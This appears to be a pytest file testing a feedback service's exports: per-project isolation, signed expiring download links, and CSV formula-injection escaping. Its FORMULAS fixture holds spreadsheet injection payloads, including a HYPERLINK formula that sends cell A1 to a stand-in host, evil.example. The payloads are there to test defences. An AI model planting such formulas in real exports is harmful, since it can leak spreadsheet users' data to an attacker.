"""Exports: asked for over the API, picked up by the sensor, written by dlt, served by an expiring link."""

from __future__ import annotations

import datetime as dt
import io
import json
import uuid

import dagster as dg
import pyarrow.csv as pa_csv
import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient

from feelback.control_plane.db import session_scope
from feelback.control_plane.models import ContentSet
from feelback.control_plane.projects import create_project
from feelback.domain import SignalType
from ingest_api.app import create_app
from pipelines.defs.exports.assets import export_partitions, export_requests_sensor, signal_exports
from tests.pipelines.raw_events import RawEvents

DAY = dt.datetime(2020, 5, 4, tzinfo=dt.UTC)


@pytest.fixture(scope="module")
def two_projects(jobs_settings, clickhouse_server):
    """Two projects with interleaved events in the same content sets and keys."""
    from warehouse.client import get_client

    made = {}
    with session_scope(jobs_settings) as session:
        for name in ("export mine", "export theirs"):
            created = create_project(session, f"{name} {uuid.uuid4().hex[:6]}")
            for key in ("likes", "notes"):
                session.add(ContentSet(project_id=created.project.id, key=key, signal_type=SignalType.like if key == "likes" else SignalType.message))
            made[name] = created
    ids = {name: created.project.id for name, created in made.items()}
    events = RawEvents()
    for hour in range(24):
        for name, project_id in ids.items():
            events.create("like", DAY + dt.timedelta(hours=hour), content_set="likes", value=1, project_id=project_id, visitor_id=f"{name}-{hour}")
            events.create("message", DAY + dt.timedelta(hours=hour, minutes=30), content_set="notes", message=f"{name} says, \"hi\" #{hour}", project_id=project_id)
    client = get_client(jobs_settings)
    events.insert(client)
    client.close()
    return made


def _export(api: TestClient, created, body: dict) -> dict:
    auth = {"Authorization": f"Bearer {created.secret_key}"}
    response = api.post(f"/v1/projects/{created.project.id}/exports", json=body, headers=auth)
    assert response.status_code == 202, response.text
    export = response.json()
    assert export["status"] == "pending" and export["download_url"] is None

    instance = dg.DagsterInstance.ephemeral()
    result = export_requests_sensor(dg.build_sensor_context(instance=instance))
    requested = [request.partition_key for request in result.run_requests]
    assert str(export["id"]) in requested
    instance.add_dynamic_partitions(export_partitions.name, [str(export["id"])])
    materialized = dg.materialize([signal_exports], partition_key=str(export["id"]), instance=instance)
    assert materialized.success

    response = api.get(f"/v1/projects/{created.project.id}/exports/{export['id']}", headers=auth)
    assert response.status_code == 200
    return response.json()


def test_exports_hold_only_the_asking_projects_rows(jobs_settings, two_projects, ch):
    mine, theirs = two_projects["export mine"], two_projects["export theirs"]
    api = TestClient(create_app(jobs_settings))
    window = {"from": (DAY + dt.timedelta(hours=6)).isoformat(), "to": (DAY + dt.timedelta(hours=18)).isoformat()}
    expected = ch.query(
        "SELECT toString(event_id) FROM raw.feedback_events WHERE project_id = {p:String} AND content_set = 'notes' "
        "AND received_at >= {a:DateTime64(3, 'UTC')} AND received_at < {b:DateTime64(3, 'UTC')} ORDER BY received_at",
        parameters={"p": mine.project.id, "a": DAY + dt.timedelta(hours=6), "b": DAY + dt.timedelta(hours=18)},
    ).result_rows
    assert len(expected) == 12

    for file_format in ("parquet", "csv", "jsonl"):
        export = _export(api, mine, {"format": file_format, "content_set": "notes", **window})
        assert export["status"] == "done", export
        download = api.get(export["download_url"])
        assert download.status_code == 200, download.text
        rows = _rows(file_format, download.content)
        assert [row["event_id"] for row in rows] == [event_id for (event_id,) in expected]
        assert {row["project_id"] for row in rows} == {mine.project.id}
        assert not any(theirs.project.id in json.dumps(row, default=str) for row in rows)
        assert all(row["content_set"] == "notes" for row in rows)

    # The link is the credential: altered or expired links are refused.
    url = export["download_url"]
    forged = url[:-1] + ("0" if url[-1] != "0" else "1")
    assert api.get(forged).status_code == 403
    other = api.get(url.replace(f"/v1/exports/{export['id']}/", f"/v1/exports/{export['id'] - 1}/"))
    assert other.status_code == 403
    expired_at = int(dt.datetime.now(dt.UTC).timestamp()) - 10
    from ingest_api.routers.exports import sign

    stale = f"/v1/exports/{export['id']}/download?expires={expired_at}&signature={sign(jobs_settings, export['id'], mine.project.id, expired_at)}"
    assert api.get(stale).status_code == 410

    # Another project's key cannot see the export, and a bad filter is a 422 naming it.
    assert api.get(f"/v1/projects/{mine.project.id}/exports/{export['id']}", headers={"Authorization": f"Bearer {theirs.secret_key}"}).status_code == 404
    bad = api.post(f"/v1/projects/{mine.project.id}/exports", json={"format": "csv", "content_set": "nope"}, headers={"Authorization": f"Bearer {mine.secret_key}"})
    assert bad.status_code == 422 and "nope" in bad.text
    bad = api.post(f"/v1/projects/{mine.project.id}/exports", json={"format": "xlsx"}, headers={"Authorization": f"Bearer {mine.secret_key}"})
    assert bad.status_code == 422 and "format" in bad.text


def _rows(file_format: str, content: bytes) -> list[dict]:
    assert content[:2] != b"\x1f\x8b", "exports are plain files, not gzip"
    if file_format == "parquet":
        return pq.read_table(io.BytesIO(content)).to_pylist()
    if file_format == "csv":
        return pa_csv.read_csv(io.BytesIO(content)).to_pylist()
    return [json.loads(line) for line in content.decode().splitlines() if line.strip()]


FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_csv_cells_that_begin_like_a_formula_are_quoted_and_jsonl_parquet_stay_exact(jobs_settings, clickhouse_server):
    """OWASP's CSV injection advice: in CSV a leading ', in JSONL and Parquet the stored text as it is."""
    from warehouse.client import get_client

    with session_scope(jobs_settings) as session:
        created = create_project(session, f"export formulas {uuid.uuid4().hex[:6]}")
        session.add(ContentSet(project_id=created.project.id, key="notes", signal_type=SignalType.message))
    events = RawEvents(project_id=created.project.id)
    for hour, formula in enumerate(FORMULAS):
        events.create("message", DAY + dt.timedelta(hours=hour), content_set="notes", content_key=formula, message=formula, visitor_id=formula)
        events.rows[-1][13] = formula  # contact_email
        events.rows[-1][12] = ["ok"]  # tags
    events.create("message", DAY + dt.timedelta(hours=9), content_set="notes", content_key="/plain", message="a = b, + c - d @ e", visitor_id="v-plain")
    client = get_client(jobs_settings)
    events.insert(client)
    client.close()
    api = TestClient(create_app(jobs_settings))

    csv = _export(api, created, {"format": "csv"})
    text = api.get(csv["download_url"]).content
    rows = pa_csv.read_csv(io.BytesIO(text), convert_options=pa_csv.ConvertOptions(strings_can_be_null=False)).to_pylist()
    assert [row["message"] for row in rows] == [f"'{formula}" for formula in FORMULAS] + ["a = b, + c - d @ e"]
    for row, formula in zip(rows, FORMULAS):
        assert row["content_key"] == row["contact_email"] == row["visitor_id"] == f"'{formula}"
    assert [row["tags"] for row in rows] == ['["ok"]'] * len(FORMULAS) + ["[]"]

    for file_format in ("jsonl", "parquet"):
        export = _export(api, created, {"format": file_format})
        exact = _rows(file_format, api.get(export["download_url"]).content)
        assert [row["message"] for row in exact] == [*FORMULAS, "a = b, + c - d @ e"]
        assert [row["content_key"] for row in exact][:-1] == [row["contact_email"] for row in exact][:-1] == FORMULAS
